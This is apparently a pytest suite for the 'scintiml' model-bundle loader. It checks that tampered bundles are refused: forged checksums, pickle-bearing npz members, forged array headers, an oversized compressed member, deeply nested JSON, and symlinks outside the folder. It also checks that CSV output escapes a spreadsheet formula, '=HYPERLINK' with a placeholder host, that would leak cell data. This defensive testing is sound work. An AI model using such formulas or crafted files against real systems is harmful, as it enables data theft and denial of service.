"""The tabular bundle on the one bundle format: round trip, and every kind of damage refused in one line."""

import io
import json
import pickle
import shutil
import tracemalloc
import zipfile

import numpy as np
import pandas as pd
import pytest

from conftest import run_cli
from scintiml.bundle import load_bundle, save_bundle
from scintiml.bundle.format import sha256_file
from scintiml.bundle.tabular import spec_digest
from scintiml.datasets import make_mibg_cohort
from scintiml.errors import BundleError
from scintiml.study import run_study


@pytest.fixture(scope="module")
def study():
    cohort = make_mibg_cohort(n_patients=200, random_state=0).subset(["delta_lvef", "planar_washout", "age"])
    return run_study(cohort, inputs="all", readiness=False, random_state=0)


@pytest.fixture(scope="module")
def pristine(study, tmp_path_factory):
    return save_bundle(study, tmp_path_factory.mktemp("b") / "model")


@pytest.fixture
def bundle_dir(pristine, tmp_path):
    return shutil.copytree(pristine, tmp_path / "model")


def _head(folder):
    return json.loads((folder / "bundle.json").read_text())


def _write_head(folder, head, rehash_spec=True):
    if rehash_spec:
        head["spec"]["spec_sha256"] = spec_digest(head["spec"])
    # an infinite number written the way JSON parsers accept it (1e999), not as the refused literal Infinity
    (folder / "bundle.json").write_text(json.dumps(head).replace("Infinity", "1e999"))


def _rehash_files(folder):
    """What a careful vandal does: recompute every file's checksum so only the content checks can catch it."""
    head = _head(folder)
    head["files"] = {name: sha256_file(folder / name) for name in head["files"]}
    _write_head(folder, head, rehash_spec=False)


def _weights(folder):
    with np.load(folder / "weights.npz", allow_pickle=False) as npz:
        return {k: npz[k] for k in npz.files}


def _set_weight(folder, name, value):
    arrays = _weights(folder)
    arrays[name] = value(arrays[name])
    np.savez(folder / "weights.npz", **arrays)


def _nan(a):
    a = a.copy()
    a.flat[0] = np.nan
    return a


def _inf(a):
    a = a.copy()
    a.flat[-1] = np.inf
    return a


def _edit_spec(key, value, rehash_spec=True):
    def edit(folder):
        head = _head(folder)
        head["spec"][key] = value
        _write_head(folder, head, rehash_spec)
    return edit


def _literal_nan_threshold(folder):
    text = (folder / "bundle.json").read_text()
    head = _head(folder)
    old = json.dumps(head["spec"]["threshold"])
    (folder / "bundle.json").write_text(text.replace(f'"threshold": {old}', '"threshold": NaN', 1))
    assert "NaN" in (folder / "bundle.json").read_text()


def _truncate(folder):
    data = (folder / "weights.npz").read_bytes()
    (folder / "weights.npz").write_bytes(data[: len(data) // 2])


def _pickled(folder):
    arrays = _weights(folder)
    arrays["coef_0"] = np.array([{"payload": "code"}], dtype=object)
    np.savez(folder / "weights.npz", **arrays)  # np.savez pickles object arrays


def _edit_card(folder):
    card = json.loads((folder / "card.json").read_text())
    card["metrics"]["auc"] = 0.99
    (folder / "card.json").write_text(json.dumps(card))


def _both(damage):
    def run(folder):
        damage(folder)
        _rehash_files(folder)
    return run


DAMAGE = {
    "nan weight": (_both(lambda f: _set_weight(f, "coef_0", _nan)), "NaN or infinite"),
    "nan weight, checksum not recomputed": (lambda f: _set_weight(f, "coef_0", _nan), "does not match its checksum"),
    "inf weight": (_both(lambda f: _set_weight(f, "intercept_1", _inf)), "NaN or infinite"),
    "inf scaling": (_edit_spec("scaler", {"method": "meanstd", "offset": [0, 0, 0], "scale": [1, 1e999, 1]}),
                    "1e999 is beyond a float's range"),
    "zero scaling": (_edit_spec("scaler", {"method": "meanstd", "offset": [0, 0, 0], "scale": [1, 0, 1]}),
                     "scale below 1e-250 (or <= 0)"),
    "nan threshold, literal NaN": (_literal_nan_threshold, "not valid JSON"),
    "nan threshold, spec checksum recomputed": (_edit_spec("threshold", "NaN"), "threshold is nan"),
    "nan threshold, spec checksum not recomputed": (_edit_spec("threshold", "NaN", rehash_spec=False), "was edited"),
    "inf threshold": (_edit_spec("threshold", 1e999), "1e999 is beyond a float's range"),
    "threshold outside (0, 1)": (_edit_spec("threshold", 1.5), "outside (0, 1)"),
    "edited spec, valid value": (_edit_spec("threshold", 0.9, rehash_spec=False), "was edited"),
    "edited card": (_edit_card, "'card.json' does not match its checksum"),
    "wrong weight shape": (_both(lambda f: _set_weight(f, "coef_0", lambda a: np.vstack([a, a[:1]]))), "has shape"),
    "missing weight array": (_both(lambda f: np.savez(f / "weights.npz", coef_0=_weights(f)["coef_0"])),
                             "lacks 'intercept_0'"),
    "architecture not fitting the inputs": (_edit_spec("architecture", [4, 2, 1]), "does not fit its 3 inputs"),
    "nan training range": (_edit_spec("training_ranges", {"delta_lvef": [0, "NaN"], "planar_washout": [0, 1],
                                                          "age": [0, 1]}), "NaN or infinite"),
    "missing file": (lambda f: (f / "weights.npz").unlink(), "is missing 'weights.npz'"),
    "truncated npz": (_truncate, "does not match its checksum"),
    "truncated npz, checksum recomputed": (_both(_truncate), "truncated or damaged"),
    "pickle-bearing npz": (_both(_pickled), "pickled objects"),
    "bundle.json not JSON": (lambda f: (f / "bundle.json").write_text("{not json"), "not valid JSON"),
    "another kind": (lambda f: _write_head(f, {**_head(f), "kind": "planar-cnn"}), "not a 'tabular-ann' one"),
}


# --- a forger with recomputed checksums: what only the load-time checks of every field and array can catch -----


def _edit_head(change):
    """Apply ``change`` to the spec dict, then re-sign the spec's digest as an attacker can."""
    def edit(folder):
        head = _head(folder)
        change(head["spec"])
        _write_head(folder, head)
    return edit


def _summary(name, key, value):
    return _edit_head(lambda spec: spec["training_summary"][name].__setitem__(key, value))


def _median_inf_no_imputation(spec):
    spec["imputation"] = {}
    for stats in spec["training_summary"].values():
        stats["quantiles"]["0.5"] = float("inf")  # written as 1e999, which json reads as inf


def _extra_column_bad_range(spec):
    spec["training_summary"]["zzz"] = {"mean": 1}
    spec["training_ranges"]["zzz"] = [1, 2, 3]


def _npy(array, shape=None):
    """The bytes of a .npy file whose header may claim another shape than its data holds (a forged header)."""
    buf = io.BytesIO()
    header = {"descr": np.lib.format.dtype_to_descr(array.dtype), "fortran_order": False,
              "shape": array.shape if shape is None else shape}
    np.lib.format.write_array_header_1_0(buf, header)
    buf.write(np.ascontiguousarray(array).tobytes())
    return buf.getvalue()


def _rewrite_npz(replace=None, keep=True):
    """weights.npz rewritten member by member: the intact arrays (unless ``keep`` is false) plus ``replace``."""
    def edit(folder):
        members = {f"{k}.npy": _npy(v) for k, v in _weights(folder).items()} if keep else {}
        members.update(replace(folder) if callable(replace) else replace or {})
        with zipfile.ZipFile(folder / "weights.npz", "w") as zf:
            for name, data in members.items():
                zf.writestr(name, data)
    return edit


def _huge_compressed_extra(folder, n_bytes=200 * 2 ** 20):
    """Append a deflated all-zero member of ``n_bytes`` (about 200 kB on disk), streamed so the test stays small."""
    with zipfile.ZipFile(folder / "weights.npz", "a", zipfile.ZIP_DEFLATED) as zf, \
            zf.open("extra.npy", "w", force_zip64=True) as fh:
        fh.write(_npy(np.zeros(0), shape=(n_bytes // 8,)))
        block = bytes(2 ** 20)
        for _ in range(n_bytes // len(block)):
            fh.write(block)


def _nested(depth):
    value = 1
    for _ in range(depth):
        value = [value]
    return value


def _edit_card_field(folder):
    card = json.loads((folder / "card.json").read_text())
    card["metrics"]["auc"] = "abc"
    (folder / "card.json").write_text(json.dumps(card))


def _link_outside(name):
    """Move the bundle's file out of the folder and leave a symbolic link to it in its place."""
    def edit(folder):
        outside = folder.parent / f"outside-{name}"
        (folder / name).replace(outside)
        (folder / name).symlink_to(outside)
    return edit


FORGED = {
    # bundle.json itself
    "bundle.json nested 100k deep": (lambda f: (f / "bundle.json").write_text("[" * 100_000 + "]" * 100_000),
                                     "nested too deeply"),
    "spec value nested 40 deep": (_edit_spec("protocol", {"site": _nested(40)}), "nested more than 32 levels"),
    # weights.npz
    "npz member holding pickle bytes": (_both(_rewrite_npz({"coef_0.npy": pickle.dumps(object())}, keep=False)),
                                        "member coef_0.npy is not a plain .npy array"),
    "forged .npy header (10^10 elements)": (
        _both(_rewrite_npz(lambda f: {"coef_0.npy": _npy(_weights(f)["coef_0"], shape=(100_000, 100_000))})),
        "coef_0 has shape (100000, 100000)"),
    "npy data shorter than its header": (
        _both(_rewrite_npz(lambda f: {"intercept_1.npy": _npy(_weights(f)["intercept_1"])[:-4]})),
        "intercept_1 holds 4 of its 8 bytes"),
    "extra npz member": (_both(_rewrite_npz({"extra.npy": _npy(np.zeros(1))})),
                         "members the network does not use ('extra.npy')"),
    "200 MB compressed extra member": (_both(_huge_compressed_extra), "more than its architecture"),
    # the spec's fields
    "summary median not a number": (_summary("delta_lvef", "quantiles", {"0.5": "abc"}),
                                    "training summary of 'delta_lvef': quantile 0.5 is 'abc', not a number"),
    "summary entry not a mapping": (_edit_head(lambda s: s["training_summary"].__setitem__("age", 5)),
                                    "training summary of 'age' is 5, not a mapping"),
    "summary mean not a number": (_summary("age", "mean", "abc"), "training summary of 'age': mean is 'abc'"),
    "summary sd a list": (_summary("age", "sd", [1]), "training summary of 'age': sd is [1], not a number"),
    "summary not a mapping": (_edit_spec("training_summary", [1]), "training_summary is not a mapping"),
    "extra summarised column with a 3-value range": (_edit_head(_extra_column_bad_range),
                                                     "training range of 'zzz' has shape (3,)"),
    "summary median inf, no imputation": (_edit_head(_median_inf_no_imputation), "1e999 is beyond a float's range"),
    "training range of an input missing": (_edit_head(lambda s: s["training_ranges"].pop("age")),
                                           "training_ranges lack input 'age'"),
    "imputation not a mapping": (_edit_spec("imputation", [1.0]), "imputation is a list, not a mapping"),
    "protocol a list": (_edit_spec("protocol", [1, 2]), "protocol is a list, not a mapping"),
    "protocol value a mapping": (_edit_spec("protocol", {"camera": {"a": 1}}), "protocol value of 'camera'"),
    "scaler without method": (_edit_spec("scaler", {"offset": [0, 0, 0], "scale": [1, 1, 1]}),
                              "scaling method None is not one of"),
    "scaler a list": (_edit_spec("scaler", [1]), "scaling layer is a list, not a mapping"),
    "threshold an integer beyond float": (_edit_spec("threshold", 10 ** 400), "not a number"),
    "architecture too large to allocate": (_edit_spec("architecture", [3, 10 ** 7, 1]), "more than 10000000 weights"),
    "architecture of booleans": (_edit_spec("architecture", [3, True]), "not a list of layer sizes"),
    "positive outcome a mapping": (_edit_spec("positive", {"a": 1}), "positive outcome {'a': 1} is not a value"),
    "classes holding a list": (_edit_spec("classes", [0, [1]]), "classes are not two outcome values"),
    "recalibrations not a list": (_edit_spec("recalibrations", {"a": 1}), "recalibrations are not a list"),
    # values no trained network holds: every probability came out NaN (scale) or 1.0 (weights)
    "subnormal scale": (_edit_head(lambda s: s["scaler"].__setitem__("scale", [1.0, 1e-320, 1.0])),
                        "scale below 1e-250"),
    "weights of 1e308": (_both(lambda f: _set_weight(f, "coef_0", lambda a: np.full_like(a, 1e308))),
                         "coef_0 holds a weight of magnitude 1e+308"),
    # links: a bundle reads its own files, never one elsewhere on the machine (checksums recomputed by the forger)
    "card.md a link outside the bundle": (_both(_link_outside("card.md")), "'card.md' is a symbolic link"),
    "weights a link to a copy outside": (_both(_link_outside("weights.npz")), "'weights.npz' is a symbolic link"),
    "bundle.json a link": (_link_outside("bundle.json"), "'bundle.json' is a symbolic link"),
    # the model card (recalibrate re-renders it)
    "card field not a number": (_both(_edit_card_field), "card.json is not a model card"),
    "card a list": (_both(lambda f: (f / "card.json").write_text("[1]")), "card.json is not a model card"),
}
DAMAGE.update(FORGED)


@pytest.mark.parametrize("damage", list(DAMAGE))
def test_tampered_bundle_is_refused_in_one_line(bundle_dir, damage):
    load_bundle(bundle_dir)  # intact before the damage
    edit, fragment = DAMAGE[damage]
    edit(bundle_dir)
    with pytest.raises(BundleError) as info:
        load_bundle(bundle_dir)
    message = str(info.value)
    assert fragment in message and "\n" not in message


def test_not_a_folder_is_refused(tmp_path):
    file = tmp_path / "model.zip"
    file.write_bytes(b"PK")
    with pytest.raises(BundleError, match="is not a folder"):
        load_bundle(file)


def test_round_trip_predicts_what_the_study_model_predicts(study, pristine):
    bundle = load_bundle(pristine)
    X = study.cohort.X
    np.testing.assert_allclose(bundle.predict(X)["probability"], study.model.predict_proba(X[bundle.inputs])[:, 1],
                               rtol=0, atol=1e-12)
    spec = _head(pristine)["spec"]
    assert _head(pristine)["kind"] == "tabular-ann"
    # drift summary on the training patients, checked against numpy by hand
    train = X.iloc[study.split.training]["delta_lvef"]
    summary = spec["training_summary"]["delta_lvef"]
    assert summary["mean"] == pytest.approx(train.mean()) and summary["sd"] == pytest.approx(train.std(ddof=1))
    assert summary["quantiles"]["0.95"] == pytest.approx(np.quantile(train, 0.95))
    assert summary["missing_share"] == pytest.approx(train.isna().mean())


def test_cli_predict_refuses_a_damaged_bundle_in_one_line(bundle_dir, study, tmp_path, capsys):
    data = tmp_path / "new.csv"
    study.cohort.X.to_csv(data, index=False)
    _both(lambda f: _set_weight(f, "coef_0", _nan))(bundle_dir)
    out = tmp_path / "pred.csv"
    code = run_cli(["predict", str(bundle_dir), str(data), "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and len(err.strip().splitlines()) == 1
    assert "NaN or infinite" in err and not out.exists()


@pytest.mark.parametrize("cell, fragment", [(np.inf, "infinite values"), (1e300, "beyond")])
def test_cli_predict_refuses_values_training_refuses(pristine, study, tmp_path, capsys, cell, fragment):
    frame = study.cohort.X.copy()
    frame.iloc[4, 0] = cell
    data = tmp_path / "new.csv"
    frame.to_csv(data, index=False)
    out = tmp_path / "pred.csv"
    code = run_cli(["predict", str(pristine), str(data), "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and fragment in err and not out.exists()
    (tmp_path / "folder").mkdir()
    code = run_cli(["predict", str(pristine), str(data), "--out", str(tmp_path / "folder"), "--overwrite"])
    assert code == 2 and "is a folder; give a file name" in capsys.readouterr().err


def test_predictions_csv_holds_no_spreadsheet_formula(pristine, study, tmp_path, capsys):
    # a patient id read from the department's table is written back out; Excel would run "=HYPERLINK(...)"
    import csv

    frame = study.cohort.X.copy()
    ids = [f"P{i}" for i in range(len(frame))]
    ids[:4] = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "@SUM(A1)", "-12", "+A1"]
    frame.insert(0, "patient", ids)
    data, out = tmp_path / "new.csv", tmp_path / "pred.csv"
    frame.to_csv(data, index=False)
    assert run_cli(["predict", str(pristine), str(data), "--out", str(out), "--id", "patient"]) == 0
    with open(out, newline="") as fh:
        cells = [row[0] for row in csv.reader(fh)][1:5]
    assert cells == ["'=HYPERLINK(\"http://x.invalid/?\"&A1,\"open\")", "'@SUM(A1)", "-12", "'+A1"]


@pytest.mark.parametrize("damage", ["forged .npy header (10^10 elements)", "200 MB compressed extra member"])
def test_forged_sizes_are_refused_before_their_data_is_read(bundle_dir, damage):
    DAMAGE[damage][0](bundle_dir)
    tracemalloc.start()  # numpy reports its array buffers to tracemalloc
    try:
        with pytest.raises(BundleError, match="shape|more than its architecture"):
            load_bundle(bundle_dir)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 20 * 2 ** 20  # the forged 74.5 GiB / 200 MB were never allocated


@pytest.mark.parametrize("damage, command", [
    ("bundle.json nested 100k deep", "predict"), ("bundle.json nested 100k deep", "recalibrate"),
    ("summary entry not a mapping", "validate"), ("summary median inf, no imputation", "predict"),
    ("npz member holding pickle bytes", "predict"), ("protocol a list", "predict"),
])
def test_cli_refuses_a_forged_bundle_in_one_line(bundle_dir, study, tmp_path, capsys, damage, command):
    DAMAGE[damage][0](bundle_dir)
    frame = study.cohort.X.copy()
    frame.iloc[0, :] = np.nan  # empty cells: imputation from the (forged) training medians is exercised
    frame[study.cohort.target] = study.cohort.y
    data = tmp_path / "new.csv"
    frame.to_csv(data, index=False)
    out = tmp_path / "out"
    args = ["--out", str(out)] if command == "predict" else ["--target", study.cohort.target, "--out", str(out)]
    code = run_cli([command, str(bundle_dir), str(data), *args])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and len(err.strip().splitlines()) == 1, err[-2000:]
    assert DAMAGE[damage][1] in err and not out.exists()


def test_a_listed_file_larger_than_any_bundle_is_refused_before_it_is_hashed(bundle_dir, monkeypatch):
    from scintiml.bundle import format as bundle_format

    monkeypatch.setattr(bundle_format, "MAX_FILE_BYTES", 1000)  # the real cap is 1 GiB; the weights are ~1 kB
    assert (bundle_dir / "weights.npz").stat().st_size > 1000
    with pytest.raises(BundleError, match="'weights.npz' is .* bytes, more than a scintiml bundle holds"):
        load_bundle(bundle_dir)


def test_a_bundle_reached_through_a_linked_folder_still_loads(pristine, tmp_path):
    (tmp_path / "link").symlink_to(pristine)  # the folder may be a link (a shared drive); only its files may not
    assert load_bundle(tmp_path / "link").inputs == load_bundle(pristine).inputs


def test_notebook_predictions_keep_the_callers_index_and_say_what_the_command_line_says(study, pristine):
    # on a filtered frame `old["p"] = bundle.predict(old)["probability"]` put 16 of 52 probabilities on other
    # patients (the result was numbered 0..n-1); the unit and range warnings of `scintiml predict` were not raised
    import warnings

    bundle = load_bundle(pristine)
    X = study.cohort.X
    older = X[X["age"] > X["age"].median()].copy()
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # a batch from the training population: nothing to say
        older["p"] = bundle.predict(older[bundle.inputs])["probability"]
    expected = study.model.predict_proba(older[bundle.inputs])[:, 1]
    assert older["p"].notna().all() and np.abs(older["p"].to_numpy() - expected).max() == 0
    shifted = older[bundle.inputs].copy()
    shifted["planar_washout"] = shifted["planar_washout"] / 100  # a fraction where training had percent
    with pytest.warns(UserWarning, match="planar_washout"):
        result = bundle.predict(shifted)
    assert list(result.index) == list(older.index) and result.attrs["warnings"]
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        bundle.predict(shifted, warn=False)  # the command line and the app print the lines themselves
    with pytest.raises(BundleError, match="pandas DataFrame"):
        bundle.predict(shifted["age"])


def test_complex_inputs_are_refused_not_cut_to_their_real_part(study, bundle_dir):
    # astype(float) kept 3 of 3+4j with only a ComplexWarning, in training and in prediction alike
    import pandas as pd

    from scintiml.cohort import load_cohort
    from scintiml.errors import NonNumericInputError

    cohort = make_mibg_cohort(n_patients=40, random_state=1)
    frame = cohort.X[["delta_lvef", "planar_washout", "age"]].copy()
    frame["outcome"] = np.asarray(cohort.y)
    waves = frame.assign(planar_washout=frame["planar_washout"] + 4j)
    with pytest.raises(NonNumericInputError, match=r"\['planar_washout'\] hold complex numbers"):
        load_cohort(waves, target="outcome")
    bundle = load_bundle(bundle_dir)
    plain = bundle.predict(frame.drop(columns="outcome"), warn=False)
    assert isinstance(plain, pd.DataFrame) and len(plain) == 40  # the same patients, real-valued: accepted
    with pytest.raises(BundleError, match="'planar_washout' holds complex numbers"):
        bundle.predict(waves.drop(columns="outcome"), warn=False)


def test_each_patient_names_its_inputs_outside_the_training_range_and_imputed_in_the_models_order(pristine):
    import warnings

    bundle = load_bundle(pristine)
    ranges = bundle.spec["training_ranges"]
    inside = {name: (low + high) / 2 for name, (low, high) in ranges.items()}
    rows = pd.DataFrame([inside] * 4)
    rows.loc[1, "age"] = ranges["age"][1] + 50  # one input beyond the range
    rows.loc[2, ["planar_washout", "delta_lvef"]] = [ranges["planar_washout"][1] + 5, ranges["delta_lvef"][0] - 5]
    rows.loc[3, "age"] = np.nan  # imputed with the training median
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        out = bundle.predict(rows[list(reversed(bundle.inputs))])  # columns in another order than the model's
    expected_two = ";".join(n for n in bundle.inputs if n in ("planar_washout", "delta_lvef"))
    assert list(out["out_of_range"]) == ["", "age", expected_two, ""]
    assert list(out["imputed"]) == ["", "", "", "age"]
